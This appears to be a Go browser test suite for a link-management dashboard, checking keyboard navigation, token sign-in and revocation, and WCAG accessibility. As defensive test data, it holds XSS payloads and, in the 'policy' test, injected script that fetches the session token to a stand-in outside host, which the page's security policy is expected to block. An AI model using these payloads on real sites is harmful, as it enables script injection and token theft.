package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/dreysql/drey/internal/db"
	"github.com/dreysql/drey/internal/proof/workerd"
)

var (
	desktop = view{"desktop-light", 1200, 800, "light"}
	views   = []view{
		desktop,
		{"desktop-dark", 1200, 800, "dark"},
		{"phone-light", 390, 844, "light"},
		{"phone-dark", 390, 844, "dark"},
	}
)

const (
	rows    = `[...document.querySelectorAll("#rows .slug")].map(e => e.textContent).join()`
	door    = `document.getElementById("door")?.hidden === false`
	focused = `(document.activeElement.id || document.activeElement.name || document.activeElement.tagName)`
)

// TestDashboard tests the page as cmd/links serves it, and as cmd/links-edge does
// in workerd. $DREY_LINKS_URL names another service instead.
func TestDashboard(t *testing.T) {
	findBrowser(t)
	all := func(t *testing.T, url string, c *db.Client) {
		for _, tt := range []struct {
			name string
			test func(*service)
		}{
			{"by keyboard", byKeyboard}, {"lists", lists}, {"register", register}, {"revoked", revoked}, {"policy", policy}, {"tokens", tokens}, {"unreachable", unreachable}, {"views", everyView},
		} {
			t.Run(tt.name, func(t *testing.T) { tt.test(newService(t, url, c)) })
		}
	}
	if url := os.Getenv("DREY_LINKS_URL"); url != "" {
		all(t, url, nil)
		return
	}
	t.Run("embedded", func(t *testing.T) {
		url, c := serve(t)
		all(t, url, c)
	})
	t.Run("worker", func(t *testing.T) {
		worker := workerd.Build(t, "github.com/dreysql/drey/cmd/links-edge")
		all(t, workerd.Serve(t, worker, workerd.Schema(t)...), nil)
	})
}

// signIn goes to the page and enters by keyboard.
func (b *tab) signIn(token string) {
	b.Helper()
	b.do(chromedp.Navigate(b.base + "/"))
	b.until(door)
	b.do(chromedp.Focus("#token"))
	b.press(token, kb.Enter)
	b.until(`document.activeElement.id === "list-title"`)
}

// fill writes a text into a field, in place of what is there.
func (b *tab) fill(id, text string) {
	b.Helper()
	b.run(`document.getElementById("` + id + `").select()`)
	b.do(chromedp.Focus("#" + id))
	b.press(text)
}

func (b *tab) clean() {
	b.Helper()
	for _, fault := range b.faulty() {
		b.Error(fault)
	}
}

// byKeyboard does all that the page is for without a mouse.
func byKeyboard(s *service) {
	t := s.T
	for i := range 25 {
		s.create(fmt.Sprintf("link-%02d", i), map[string]any{"tags": []string{[]string{"even", "odd"}[i%2]}})
	}
	s.follow("link-07", 3)
	b := newTab(t, s.url)
	b.view(desktop)

	// A token that is not valid is refused, and kept nowhere.
	b.do(chromedp.Navigate(s.url + "/"))
	b.until(door)
	b.do(chromedp.Focus("#token"))
	b.press("nonsense", kb.Enter)
	b.equal(`document.querySelector("#enter .wrong").textContent`, "The token is unknown or revoked.")
	b.equal(`sessionStorage.length`, "0")

	b.signIn(s.token)
	b.equal(`[sessionStorage.length, localStorage.length, document.cookie].join()`, "1,0,")
	b.equal(`document.getElementById("total").textContent`, "25")
	b.equal(`document.querySelectorAll("#rows li").length`, "20")

	// The order of focus is that of the page.
	order := []string{}
	for range 7 {
		b.press(kb.Tab)
		order = append(order, eval[string](b, `document.activeElement.dataset.slug ? "row" : document.activeElement.className === "tag" ? "tag" : `+focused))
	}
	if got := strings.Join(order, " "); got != "new q tag show order row tag" {
		t.Errorf("focus goes to %s", got)
	}

	// Pages, there and back.
	b.do(chromedp.Focus("#next"))
	b.press(kb.Enter)
	b.equal(`document.querySelectorAll("#rows li").length`, "5")
	b.equal(focused, "list-title")
	b.do(chromedp.Focus("#prev"))
	b.press(kb.Enter)
	b.equal(`document.querySelectorAll("#rows li").length`, "20")

	// Filters and orders; they stay in the address.
	b.shortcut("/")
	b.equal(focused, "q")
	b.press("link-0")
	b.equal(`document.getElementById("total").textContent`, "10")
	b.press(kb.Tab, "odd")
	b.equal(`document.getElementById("total").textContent`, "5")
	b.equal(`location.search`, "?q=link-0&tag=odd")
	b.press(kb.Tab, kb.Tab, "M")
	b.equal(`document.getElementById("order").value`, "click_count.desc")
	b.until(rows + `.startsWith("` + s.slug + `link-07,")`)
	b.do(chromedp.Reload())
	b.until(rows + `.startsWith("` + s.slug + `link-07,")`)
	b.equal(`document.getElementById("total").textContent`, "5")

	// Details and their drawing.
	b.do(chromedp.Focus(".open"))
	b.press(kb.Enter)
	b.equal(focused, "detail-title")
	b.equal(`document.querySelector("#chart svg")?.getAttribute("aria-label")`, "3 clicks in 30 days, at most 3 on one day.")
	b.equal(`document.querySelectorAll("#chart .bar-day").length`, "1")
	b.until(`document.querySelector("#chart .bar-day").getBBox().height > 20`)
	b.until(`document.getElementById("shares").innerText.includes("Direct")`)
	b.press(kb.Escape)
	b.equal(`document.getElementById("detail").hidden`, "true")
	b.equal(`document.activeElement.dataset.slug`, s.slug+"link-07")

	// A new link; what is wrong is told at the field.
	b.shortcut("n")
	b.until(`document.getElementById("editor").open`)
	b.equal(focused, "f-url")
	b.press("javascript:alert(1)", kb.Enter)
	b.until(`document.getElementById("editor-wrong").textContent.startsWith("Leads to: only http and https")`)
	b.equal(`document.getElementById("f-url").getAttribute("aria-invalid") + " " + document.activeElement.id`, "true f-url")
	b.fill("f-url", "https://example.org/new")
	b.press(kb.Tab, s.slug+"new", kb.Tab, "<img src=x onerror=alert(1)>", kb.Tab, "odd, fresh", kb.Enter)
	b.until(`!document.getElementById("editor").open`)
	b.fill("q", s.slug+"new")
	b.equal(rows, s.slug+"new")
	b.equal(`document.querySelector("#rows .title").textContent`, "<img src=x onerror=alert(1)>")
	b.equal(`document.querySelectorAll("#rows img").length`, "0")

	// A change.
	b.do(chromedp.Focus(".open"))
	b.press(kb.Enter)
	b.equal(focused, "detail-title")
	b.do(chromedp.Focus("#edit"))
	b.press(kb.Enter)
	b.until(`document.getElementById("editor").open`)
	b.fill("f-title", "Nest")
	b.do(chromedp.Focus("#f-active"))
	b.press(" ", kb.Enter)
	b.until(`!document.getElementById("editor").open`)
	b.equal(`document.querySelector("#rows .title").textContent + document.querySelector("#rows .off").textContent`, "Nestoff")
	var link struct {
		Title    string
		IsActive bool `json:"is_active"`
		URL      string
		Tags     []string
	}
	s.call("GET", "/api/links/"+s.slug+"new", nil, &link)
	if link.Title != "Nest" || link.IsActive || link.URL != "https://example.org/new" || strings.Join(link.Tags, " ") != "fresh odd" {
		t.Errorf("%+v", link)
	}

	// A link is deleted only if one says so.
	b.do(chromedp.Focus("#delete"))
	b.press(kb.Enter)
	b.until(`document.getElementById("sure").open`)
	b.press(kb.Enter) // cancel has the focus
	b.until(`!document.getElementById("sure").open`)
	b.equal(rows, s.slug+"new")
	b.do(chromedp.Focus("#delete"))
	b.press(kb.Enter)
	b.until(`document.getElementById("sure").open`)
	b.press(kb.Tab, kb.Enter)
	b.equal(rows, "")
	b.equal(`document.querySelector("#empty p").textContent`, "No link is like that.")

	b.do(chromedp.Focus("#leave"))
	b.press(kb.Enter)
	b.until(door)
	b.equal(`sessionStorage.length`, "0")
	b.clean()
}

// register: who is new gets a token, sees it once and is in.
func register(s *service) {
	t := s.T
	b := newTab(t, s.url)
	b.view(desktop)
	b.do(chromedp.Navigate(s.url + "/"))
	b.until(door)
	b.do(chromedp.Focus("#email"))
	b.press(s.slug+"@example.com", kb.Enter)
	b.equal(`document.querySelector("#register .wrong").textContent`, "the address is registered already")
	b.fill("email", s.slug+"new@example.com")
	b.press(kb.Enter)
	b.until(`document.getElementById("fresh-token").textContent.length >= 26`)
	s.token = eval[string](b, `document.getElementById("fresh-token").textContent`)
	b.do(chromedp.Focus("#fresh-done"))
	b.press(kb.Enter)
	b.equal(`document.querySelector("#empty p").textContent`, "No links yet. Make the first one.")
	b.equal(`document.getElementById("fresh-token").textContent`, "")
	s.create("first", map[string]any{})
	b.do(chromedp.Reload())
	b.equal(rows, s.slug+"first")
	b.clean()
}

// revoked: a token that is revoked meanwhile leads back to the door.
func revoked(s *service) {
	t := s.T
	b := newTab(t, s.url)
	b.view(desktop)
	b.signIn(s.token)
	b.run(`sessionStorage.setItem("links.token", "revoked")`)
	b.do(chromedp.Reload())
	b.until(door)
	b.equal(`sessionStorage.length`, "0")
	b.until(`document.getElementById("status").textContent.includes("signed out")`)

	// Also where a link is open, which is there again for who signs in.
	s.create("one", map[string]any{})
	b.press(s.token, kb.Enter)
	b.do(chromedp.Click(".open"))
	b.equal(title, s.slug+"one")
	b.run(`sessionStorage.setItem("links.token", "revoked")`)
	b.do(chromedp.Reload())
	b.until(door)
	b.equal(focused, "token")
	b.press(s.token, kb.Enter)
	b.equal(title, s.slug+"one")
	b.equal(focused, "detail-title")
	b.clean()
}

// policy: markup that somebody got into the page runs nothing and loads
// nothing, and the page cannot be framed.
func policy(s *service) {
	t := s.T
	reached := make(chan string, 100)
	other := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { reached <- r.URL.String() }))
	defer other.Close()
	b := newTab(t, s.url)
	b.view(desktop)
	b.signIn(s.token)
	b.clean()
	for _, attempt := range []string{
		`document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.pwned=1'>")`,
		`document.body.append(Object.assign(document.createElement("script"), {textContent: "window.pwned=1"}))`,
		`document.body.append(Object.assign(document.createElement("script"), {src: "https://other.example/x.js"}))`,
		`document.body.append(Object.assign(document.createElement("img"), {src: "https://other.example/x.png"}))`,
		`setTimeout("window.pwned=1")`,
		`fetch("https://other.example/?" + sessionStorage.getItem("links.token"))`,
		`document.body.append(Object.assign(document.createElement("iframe"), {src: "/"}))`,
	} {
		b.run(`window.stopped = 0; document.addEventListener("securitypolicyviolation", () => window.stopped++)`)
		attempt = strings.ReplaceAll(attempt, "https://other.example", other.URL)
		b.run(`(async () => { try { await (` + attempt + `) } catch { window.stopped++ } })(); 0`)
		b.until(`window.stopped > 0`)
	}
	b.equal(`window.pwned`, "undefined")
	select {
	case what := <-reached:
		t.Errorf("another host was asked for %s", what)
	default:
	}
}

// everyView: on a desktop and on a phone, light and dark, each part of the page
// can be read, fits, and has names and sizes that fingers and screen readers
// need.
func everyView(s *service) {
	t := s.T
	id := s.create("nest", map[string]any{"title": "The nest, seen from the other side of the river", "tags": []string{"birds", "spring"}})
	s.create("atlas", map[string]any{"url": "https://maps.example.org/atlas/of/very/remote/islands?with=a-long-query-that-does-not-fit&page=12", "tags": []string{"maps"}})
	s.create("over", map[string]any{"title": "Talk", "max_clicks": 1})
	s.create("paper", map[string]any{"url": "https://papers.example.net/2026/11.pdf", "expires_at": "2999-01-01T00:00:00Z"})
	for i := range 18 {
		s.create(fmt.Sprintf("more-%d", i), map[string]any{})
	}
	s.follow("over", 1)
	s.follow("atlas", 12)
	if s.db != nil {
		s.history(id)
	} else {
		s.follow("nest", 20)
	}
	s.manyTokens()
	var reader struct{ Token string }
	s.call("POST", "/api/tokens", map[string]any{"label": "reader"}, &reader)
	b := newTab(t, s.url)
	for _, v := range views {
		b.view(v)
		b.do(chromedp.Navigate(s.url + "/"))
		b.run(`sessionStorage.clear()`)
		b.do(chromedp.Reload())
		b.until(door)
		b.look(v, "door")
		b.signIn(s.token)
		if v.width < 500 {
			b.do(chromedp.Click("#fold"))
			b.look(v, "filters")
		}
		b.do(chromedp.Focus("#order"))
		b.press("E") // ending soon
		b.until(rows + `.startsWith("` + s.slug + `paper,")`)
		b.look(v, "ending")
		b.do(chromedp.Focus("#order"))
		b.press(kb.ArrowUp, kb.ArrowUp, kb.ArrowUp) // most clicks
		b.until(rows + `.startsWith("` + s.slug + `nest,")`)
		b.look(v, "list")
		b.run(`document.getElementById("pages").scrollIntoView({ block: "end" })`)
		b.look(v, "pages")
		b.do(chromedp.Click(".open"))
		b.until(`document.querySelectorAll("#shares li").length > 0`)
		b.look(v, "detail")
		b.do(chromedp.Click("#edit"))
		b.until(`document.getElementById("editor").open`)
		b.look(v, "editor")
		b.press(kb.Escape)
		b.do(chromedp.Click("#delete"))
		b.until(`document.getElementById("sure").open`)
		b.look(v, "sure")
		b.press(kb.Escape)
		b.toTokens()
		b.until(`document.querySelectorAll("#token-rows li").length === 5`)
		b.do(chromedp.Click("#revoked summary"))
		b.look(v, "tokens")
		b.do(chromedp.Click("#token-rows .danger"))
		b.until(`document.getElementById("sure").open`)
		b.look(v, "tokens-sure")
		b.press(kb.Escape)
		b.run(`sessionStorage.setItem("links.token", "` + reader.Token + `")`)
		b.do(chromedp.Reload())
		b.until(`document.getElementById("tokens-read").hidden === false`)
		b.look(v, "tokens-read")
	}
	b.clean()
}

// look takes a picture and looks for what is wrong with what is to be seen.
func (b *tab) look(v view, part string) {
	b.Helper()
	b.shoot(v.name + "-" + part)
	for _, fault := range eval[[]string](b, audit) {
		b.Errorf("%s, %s: %s", v.name, part, fault)
	}
}

// audit finds text whose contrast is below 4.5 (WCAG 2.2, 1.4.3), controls
// without a name (4.1.2) or smaller than 24 pixels, on a phone 44 (2.5.8, 2.5.5),
// ids that are there twice, and what makes the page wider than the window.
const audit = `(() => {
	const faults = [];
	const channels = (c) => {
		const m = c.match(/[\d.]+/g).map(Number);
		return { rgb: m.slice(0, 3), a: m[3] ?? 1 };
	};
	const luminance = ([r, g, b]) => {
		const f = (v) => ((v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
		return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
	};
	const behind = (e) => {
		for (; e; e = e.parentElement) {
			const c = channels(getComputedStyle(e).backgroundColor);
			if (c.a === 1) return c.rgb;
		}
		return [255, 255, 255];
	};
	const top = document.querySelector("dialog[open]") ?? document.body;
	const visible = (e) => e.checkVisibility({ visibilityProperty: true, opacityProperty: true }) && e.getBoundingClientRect().width > 1;
	const name = (e) => e.tagName.toLowerCase() + (e.id ? "#" + e.id : "." + e.className.baseVal ?? e.className);
	let texts = 0;
	for (const e of top.querySelectorAll("*")) {
		if (!visible(e) || e.closest(":disabled")) continue;
		const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.matches("input, select");
		if (own && e.tagName !== "OPTION") {
			texts++;
			const style = getComputedStyle(e);
			const front = e instanceof SVGElement ? style.fill : style.color;
			const [a, b] = [luminance(channels(front).rgb), luminance(behind(e))].sort((x, y) => y - x);
			const ratio = (a + 0.05) / (b + 0.05);
			if (ratio < 4.5) faults.push(name(e) + " has a contrast of " + ratio.toFixed(2));
		}
		if (e.matches("button, input, select, a.mark, a.tag")) {
			const label = e.getAttribute("aria-label") ?? ([...(e.labels ?? [])].map((l) => l.innerText).join(" ") || e.innerText);
			if (!label.trim()) faults.push(name(e) + " has no name");
			const size = (e.labels?.[0]?.contains(e) ? e.labels[0] : e.matches(".open") ? e.parentElement : e).getBoundingClientRect();
			if (size.height < (innerWidth < 500 && !e.matches("a") ? 44 : 24)) faults.push(name(e) + " is " + size.height + " pixels high");
		}
	}
	if (texts < 4) faults.push("there are " + texts + " texts");
	const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
	for (const id of ids) if (ids.indexOf(id) !== ids.lastIndexOf(id)) faults.push("#" + id + " is there twice");
	if (document.documentElement.scrollWidth > innerWidth) faults.push("the page is " + document.documentElement.scrollWidth + " pixels wide");
	if (top !== document.body && top.scrollWidth > top.clientWidth) faults.push("the dialog is too narrow for what is in it");
	return faults;
})()`
